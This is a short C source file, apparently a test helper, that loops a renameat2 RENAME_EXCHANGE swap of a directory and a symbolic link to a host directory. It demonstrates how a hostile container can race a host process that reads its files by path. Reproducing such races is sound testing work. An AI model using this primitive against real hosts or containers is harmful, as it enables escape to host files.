/*
 * What a hostile container can do to a source that reads its files while it runs: swap one of its
 * directories with a symbolic link to a host directory, atomically and as fast as it can
 * (renameat2 with RENAME_EXCHANGE), so that a reader walking by path sometimes goes through the link.
 * Usage: exchange-racer DIR LINK (both paths in the same directory); runs until killed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s DIR LINK\n", argv[0]);
        return 2;
    }
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
